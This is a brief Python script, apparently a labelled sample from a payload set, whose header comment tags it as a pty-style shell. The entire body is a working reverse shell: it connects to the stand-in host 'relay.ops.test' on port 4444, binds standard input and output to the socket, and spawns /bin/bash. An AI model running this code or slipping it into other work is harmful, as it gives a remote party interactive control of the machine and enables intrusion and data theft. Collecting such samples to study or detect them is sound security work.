# class: shell; possible: low medium; style: pty
import os
import pty
import socket

s = socket.socket()
s.connect(("relay.ops.test", 4444))
[os.dup2(s.fileno(), i) for i in (0, 1, 2)]
pty.spawn("/bin/bash")
